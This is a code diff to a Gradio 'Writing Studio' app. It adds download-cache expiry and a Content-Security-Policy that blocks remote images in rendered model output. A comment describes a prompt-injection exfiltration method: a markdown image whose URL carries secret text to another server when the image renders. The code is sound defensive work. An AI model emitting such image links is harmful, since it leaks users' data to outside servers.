@@ -28,10 +28,12 @@ from writing.ui.theme import CSS, HEAD, TOGGLE_JS, make_theme
 
 DEFAULT_QUEUE_SIZE = 16  # waiting runs beyond this get gradio's "queue is full" error: try again shortly
 STATUS_REFRESH_S = 2.0
+DOWNLOAD_CACHE_S = 3600
 
 
 def build_app(ctx: UIContext, *, queue_size: int = DEFAULT_QUEUE_SIZE) -> gr.Blocks:
-    with gr.Blocks(title="Writing Studio") as app:
+    # delete_cache: gradio's copies of downloads and exports (its cache) are deleted after an hour, like ours.
+    with gr.Blocks(title="Writing Studio", delete_cache=(DOWNLOAD_CACHE_S, DOWNLOAD_CACHE_S)) as app:
         with gr.Row(elem_id="studio-header"):
             gr.Markdown("# ✍️ Writing Studio\n" + t("tagline"), elem_id="studio-title")
             toggle = gr.Button(t("theme_toggle"), size="sm", variant="secondary", elem_id="theme-toggle",
@@ -58,13 +60,21 @@ def build_app(ctx: UIContext, *, queue_size: int = DEFAULT_QUEUE_SIZE) -> gr.Blo
     return app
 
 
+# Model output is untrusted: a prompt-injected ![](https://x/?q=SECRET) would send text to another server the
+# moment it renders. This Content-Security-Policy lets the page load images and media from the studio itself
+# (and data:/blob: URLs) only; every other image is blocked by the browser, whatever component renders it.
+NO_REMOTE_IMAGES = ('<meta http-equiv="Content-Security-Policy" '
+                    'content="img-src \'self\' data: blob:; media-src \'self\' data: blob:">')
+
+
 def launch(app: gr.Blocks, *, host: str = "127.0.0.1", port: int | None = None, prevent_thread_lock: bool = False,
-           quiet: bool = False, **options: Any) -> Any:
+           quiet: bool = False, remote_images: bool = False, **options: Any) -> Any:
     """Serve the studio. Theme, CSS, head script and translations belong to launch() in gradio 6.
 
     The app's own folder and the data folder (drafts DB, user presets) are blocked from gradio's file
     routes explicitly, whatever else is allowed: /gradio_api/file=studio.py or =/data/drafts.db is a 403.
     With `auth`, failed logins are throttled (writing/ui/login.py; `login_throttle=` overrides the limits).
+    Remote images in rendered output are blocked (NO_REMOTE_IMAGES) unless `remote_images` (--allow-remote-images).
     """
     options["blocked_paths"] = [*blocked_paths(), *(options.get("blocked_paths") or [])]
     from writing.ui.login import throttle_login  # failed logins throttled per user and address (#13)
@@ -75,7 +85,7 @@ def launch(app: gr.Blocks, *, host: str = "127.0.0.1", port: int | None = None, 
         server_port=port,
         theme=make_theme(),
         css=CSS,
-        head=HEAD,
+        head=HEAD if remote_images else NO_REMOTE_IMAGES + HEAD,
         i18n=I18N,
         prevent_thread_lock=prevent_thread_lock,
         quiet=quiet,
